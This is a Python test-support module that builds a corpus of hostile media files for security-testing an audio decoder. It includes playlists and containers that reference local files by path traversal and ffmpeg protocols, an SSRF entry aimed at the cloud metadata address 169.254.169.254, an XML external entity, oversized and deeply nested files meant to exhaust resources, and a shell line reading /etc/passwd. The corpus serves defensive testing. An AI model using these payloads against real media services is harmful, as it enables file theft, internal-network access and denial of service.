"""A hundred files, each of which wants something of whoever decodes it: another's sound, a call, a crash, a fortune.

None has a tone of its own, so one that sounds like the canary has brought it.
"""

import struct
from collections.abc import Iterator
from pathlib import Path

from tests.support.hostile_media import MP3_FRAME, chunk, dash, ffconcat, hls, id3_bomb, sdp, silent_mp3, wav

SILENCE = bytes(16_000)
WHOLE = wav(SILENCE)

FRONTS = {
    "mp3": MP3_FRAME * 3,
    "ogg": b"OggS",
    "wav": b"RIFF\x00\x00\x00\x00WAVE",
    "mov": b"\x00\x00\x00\x08moov",
    "flac": b"fLaC",
    "matroska": b"\x1a\x45\xdf\xa3",
    "wave64": bytes.fromhex("726966662e91cf11a5d628db04c10000"),
    "asf": bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c"),
}
"""What makes a file look like a recording for as long as nobody looks further."""


MP4 = struct.pack(">I", 20) + b"ftypisom\x00\x00\x00\x00isom"


def corpus(canary: Path, address: str) -> Iterator[tuple[str, bytes]]:
    """By name. `canary` is a folder of sounds that are nobody's to have, `address` a URL at which they are served."""
    yield from _that_name_others(canary, address)
    yield from _that_lie_in_their_header()
    yield from _that_grow()
    yield from _that_are_something_else(address)


def _that_name_others(canary: Path, address: str) -> Iterator[tuple[str, bytes]]:
    ways = {
        "file": f"file://{canary}/canary.ts",
        "path": f"{canary}/canary.ts",
        "up": "../" * 12 + f"{canary}/canary.ts".lstrip("/"),
        "http": f"{address}/canary.ts",
        "concat": f"concat:{canary}/canary.ts|{canary}/canary.ts",
        "subfile": f"subfile,,start,0,end,0,,:{canary}/canary.ts",
        "crypto": f"crypto:{canary}/canary.ts",
        "cache": f"cache:{address}/canary.ts",
        "tcp": address.replace("http", "tcp"),
        "udp": address.replace("http", "udp"),
        "data": "data:audio/wav;base64,UklGRg==",
        "metadata": "http://169.254.169.254/latest/meta-data/",
    }
    playlists = {
        "hls": hls,
        "ffconcat": ffconcat,
        "dash": dash,
        "m3u": lambda url: f"#EXTM3U\n{url}\n".encode(),
        "pls": lambda url: f"[playlist]\nFile1={url}\nNumberOfEntries=1\n".encode(),
        "asx": lambda url: f'<asx version="3"><entry><ref href="{url}"/></entry></asx>'.encode(),
        "smil": lambda url: f'<smil><body><audio src="{url}"/></body></smil>'.encode(),
    }
    for name, make in playlists.items():
        for way, url in ways.items() if name == "hls" else [("file", ways["file"]), ("http", ways["http"])]:
            yield f"{name} by {way}", make(url)
    for name, front in FRONTS.items():
        yield f"hls behind {name}", front + hls(ways["http"])
        yield f"ffconcat behind {name}", front + b"\n" + ffconcat(f"{canary}/canary.wav")
    yield (
        "hls with a key",
        hls(ways["file"]).replace(
            b"#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{address}/canary.wav"\n#EXTINF'.encode()
        ),
    )
    yield (
        "hls with a map",
        hls(ways["file"]).replace(b"#EXTINF", f'#EXT-X-MAP:URI="{address}/canary.mp4"\n#EXTINF'.encode()),
    )
    yield "sdp", sdp(9)
    yield (
        "quicktime by reference",
        _box(b"ftyp", b"qt  \x00\x00\x00\x00qt  ")
        + _box(
            b"moov", _box(b"rmra", _box(b"rmda", _box(b"rdrf", b"\x00" * 4 + b"url " + address.encode() + b"\x00")))
        ),
    )
    yield "matroska that goes on elsewhere", FRONTS["matroska"] + b"\x84\x42\x86\x81\x01" + address.encode()


def _that_lie_in_their_header() -> Iterator[tuple[str, bytes]]:
    for rate in (0, 1, 3_999, 192_001, 0x7FFFFFFF, 0xFFFFFFFF):
        yield f"wav of {rate} Hz", wav(SILENCE, rate_hz=rate, bits=8)
    for channels in (0, 9, 255, 65_535):
        yield f"wav of {channels} channels", wav(SILENCE, channels=channels)
    for bits in (0, 1, 7, 64, 65_535):
        yield f"wav of {bits} bits", wav(SILENCE, bits=bits)
    for form in (0, 2, 6, 17, 49, 85, 0x161, 0xFFFE, 0xFFFF):
        yield f"wav of form {form}", wav(SILENCE, form=form)
    yield "wav without fmt", b"RIFF\xff\xff\xff\xffWAVE" + chunk(b"data", SILENCE)
    yield "wav with data before fmt", b"RIFF\xff\xff\xff\xffWAVE" + chunk(b"data", SILENCE) + WHOLE[12:36]
    yield "wav within wav", b"RIFF\xff\xff\xff\xffWAVE" + chunk(b"data", WHOLE) + WHOLE
    yield "wav that claims 4 GiB", WHOLE.replace(struct.pack("<I", len(SILENCE)), b"\xff\xff\xff\xff")
    yield "wav that claims nothing", WHOLE.replace(struct.pack("<I", len(SILENCE)), b"\x00\x00\x00\x00")
    yield "rf64 of 8 EiB", b"RF64\xff\xff\xff\xffWAVE" + chunk(b"ds64", b"\xff" * 28) + WHOLE[12:]
    yield "wave64 of 8 EiB", FRONTS["wave64"] + b"\xff" * 8 + b"wave" + b"\x00" * 64
    yield "flac of 2 ** 36 samples", b"fLaC\x80\x00\x00\x22" + b"\x10\x00\x10\x00" + b"\xff" * 30
    yield "flac with a picture of 16 MiB", b"fLaC\x00\x00\x00\x22" + b"\x00" * 34 + b"\x86\xff\xff\xff"
    yield "ogg of 255 laces", b"OggS\x00\x02" + b"\xff" * 20 + b"\xff" + b"\xff" * 255
    yield "mp4 of 2 ** 31 samples", _movie(_box(b"stsz", struct.pack(">III", 0, 0, 0x7FFFFFFF)))
    yield "mp4 whose chunks overlap", _movie(_box(b"stco", struct.pack(">II", 0, 5_000) + b"\x00\x00\x00\x08" * 5_000))
    yield "mp4 of a box without end", MP4 + b"\x00\x00\x00\x00moov"
    yield "mp4 of a box of 8 EiB", MP4 + b"\x00\x00\x00\x01moov" + b"\x7f" * 8
    yield "matroska of sizes unknown", FRONTS["matroska"] + b"\x01\xff\xff\xff\xff\xff\xff\xff\x18\x53\x80\x67" * 200
    yield "asf of 2 ** 32 objects", FRONTS["asf"] + b"\xff" * 64
    yield "adts of no length", b"\xff\xf1\x50\x80\x00\x1f\xfc" * 500


def _that_grow() -> Iterator[tuple[str, bytes]]:
    yield "silence of an hour", silent_mp3(3_600)
    yield "wav of one sample a second, ten hours", wav(bytes(36_000), rate_hz=1, bits=8)
    yield "id3 of 256 MB", id3_bomb(256 * 1024 * 1024 - 1, silent_mp3(1))
    yield "id3 a thousand times", (b"ID3\x04\x00\x00\x00\x00\x00\x00" * 1_000) + silent_mp3(1)
    yield "mp4 a thousand boxes deep", _nested(1_000)
    yield (
        "mp4 of ten thousand tracks",
        MP4 + _box(b"moov", _box(b"trak", b"") * 10_000),
    )
    yield (
        "ogg of a thousand streams",
        b"".join(
            b"OggS\x00\x02" + b"\x00" * 8 + struct.pack("<III", n, 0, 0) + b"\x01\x1e\x01vorbis" + b"\x00" * 23
            for n in range(1_000)
        ),
    )


def _that_are_something_else(address: str) -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    yield "one byte", b"\x00"
    yield "zeros", bytes(100_000)
    yield "text", b"not a recording\n" * 100
    yield "svg", f'<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="{address}/canary.wav"/></svg>'.encode()
    yield "xml with an entity", f'<!DOCTYPE a [<!ENTITY b SYSTEM "{address}/canary.wav">]><a>&b;</a>'.encode()
    yield "html", f'<audio src="{address}/canary.wav">'.encode()
    yield "subtitles", b"1\n00:00:00,000 --> 00:00:01,000\nhello\n"
    yield "elf", b"\x7fELF\x02\x01\x01" + bytes(200)
    yield "zip", b"PK\x03\x04" + bytes(100)
    yield "gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00"
    yield "png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x02\x00\x00\x00"
    yield "shell", b"#!/bin/sh\ncat /etc/passwd\n"


def _box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + name + body


def _nested(depth: int) -> bytes:
    body = b""
    for _ in range(depth):
        body = _box(b"moov", body)
    return MP4 + body


def _movie(table: bytes) -> bytes:
    """One track of sound, of which `table` says where its samples are."""
    handler = _box(b"hdlr", b"\x00" * 8 + b"soun" + b"\x00" * 13)
    media = _box(b"mdia", handler + _box(b"minf", _box(b"stbl", table)))
    return MP4 + _box(b"moov", _box(b"trak", media)) + _box(b"mdat", SILENCE)
